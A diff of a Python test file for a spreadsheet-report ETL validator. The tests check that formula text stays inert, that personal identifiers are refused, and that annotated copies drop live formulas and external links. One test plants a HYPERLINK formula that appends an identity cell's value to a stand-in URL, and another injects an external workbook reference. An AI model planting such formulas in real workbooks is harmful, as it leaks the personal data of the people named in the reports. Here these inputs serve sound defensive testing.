@@ -16,7 +16,7 @@ import pytest
 
 from etl import inbox, sandbox
 from etl.load import Incoming, load_files
-from etl.template import build_workbook, last_week_rows, workbook_bytes
+from etl.template import build_workbook, current_rows, workbook_bytes
 from etl.validate import validate_bytes
 from gugus import db as gdb
 from tests.conftest import WEEK, edit, row_of, sample_bytes, table_counts
@@ -255,7 +255,7 @@ def test_non_finite_and_huge_numbers_are_refused_in_every_numeric_column(ref, pi
 def test_a_value_beyond_the_indicators_weekly_bound_is_refused_at_its_cell(ref):
     def change(book):
         ws = book["Indikator"]
-        ws[f"E{row_of(ws, 'PCG-06')}"] = 50_000  # passes issued in one week: an extra zero
+        ws[f"F{row_of(ws, 'PCG-06')}"] = 50_000  # passes issued in one week: an extra zero
     [issue] = validate_bytes(edit(sample_bytes(ref, "pencegahan"), change), "x.xlsx", ref).report.errors
     assert (issue.code, issue.header) == ("value-implausible", "Nilai")
     assert "5.000 dokumen" in issue.message and "PCG-06" in issue.message
@@ -335,12 +335,12 @@ def test_formula_text_round_trips_into_the_prefilled_template_as_text(ref, db):
     def change(book):
         indicators, actions = book["Indikator"], book["Aksi RAN"]
         for i, text in enumerate(FORMULAS):  # typed as text, the way Excel keeps text that begins with "="
-            for cell in (indicators.cell(2 + i, 8, text), actions.cell(2 + i, 7, text)):  # Catatan, Bukti
+            for cell in (indicators.cell(2 + i, 9, text), actions.cell(2 + i, 7, text)):  # Catatan, Bukti
                 cell.data_type = "s"
     [result] = load_files([Incoming("x.xlsx", edit(sample_bytes(ref, "pencegahan"), change))], db=db)
     assert result.status == "loaded"
     with gdb.connect(db) as con:
-        rows = last_week_rows(con, "pencegahan", WEEK, ref)
+        rows = current_rows(con, "pencegahan", WEEK, ref)
     book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook("pencegahan", ref, rows=rows))))
     stored = [c for ws in (book["Indikator"], book["Aksi RAN"]) for row in ws.iter_rows(min_row=2) for c in row
               if isinstance(c.value, str) and c.value.lstrip().startswith(("=", "+", "-", "@"))]
@@ -349,8 +349,6 @@ def test_formula_text_round_trips_into_the_prefilled_template_as_text(ref, db):
 
 
 def test_formula_text_in_victim_services_round_trips_into_the_in_app_edit_workbook_as_text(ref, db):
-    from etl.template import current_rows
-
     def change(book):
         ws = book["Layanan Korban"]
         column = next(c.column for c in ws[1] if c.value == "Catatan")
@@ -379,7 +377,7 @@ def test_formula_text_in_victim_services_round_trips_into_the_in_app_edit_workbo
 def test_a_written_birthdate_or_home_address_is_refused_without_echoing_it(ref, note, code):
     errors = validate_bytes(_with_text(ref, "pencegahan", "Indikator", "Catatan", note), "x.xlsx", ref).report.errors
     [issue] = [i for i in errors if i.code.startswith("identity-")]
-    assert issue.code == code and issue.column == "H"
+    assert issue.code == code and issue.column == "I"
     assert not any(ch.isdigit() for ch in issue.value)  # the digits of a birthdate or address are never echoed
 
 
@@ -482,7 +480,7 @@ def test_the_marked_up_copy_carries_no_live_formula_and_survives_odd_sheet_names
         book["Petunjuk"].title = "daftar masalah "  # the name the issue list takes, in other letters: a fake list
         ws = book["Indikator"]
         ws["H3"] = '=HYPERLINK("http://contoh.test/"&Identitas!B5,"lihat catatan")'
-        ws[f"E{row_of(ws, 'PCG-06')}"] = "banyak"
+        ws[f"F{row_of(ws, 'PCG-06')}"] = "banyak"
     data = edit(sample_bytes(ref, "pencegahan"), change)
     issues = validate_bytes(data, "x.xlsx", ref).report.issues
     marked = annotated_workbook(data, issues)
@@ -549,7 +547,7 @@ def test_the_marked_up_copy_drops_links_to_other_workbooks(ref):
 
     def change(book):
         ws = book["Indikator"]
-        ws[f"E{row_of(ws, 'PCG-06')}"] = "banyak"
+        ws[f"F{row_of(ws, 'PCG-06')}"] = "banyak"
     data = repack(edit(sample_bytes(ref, "pencegahan"), change), {
         "xl/workbook.xml": lambda x: x.replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId99"/>'
                                                             "</externalReferences>"),
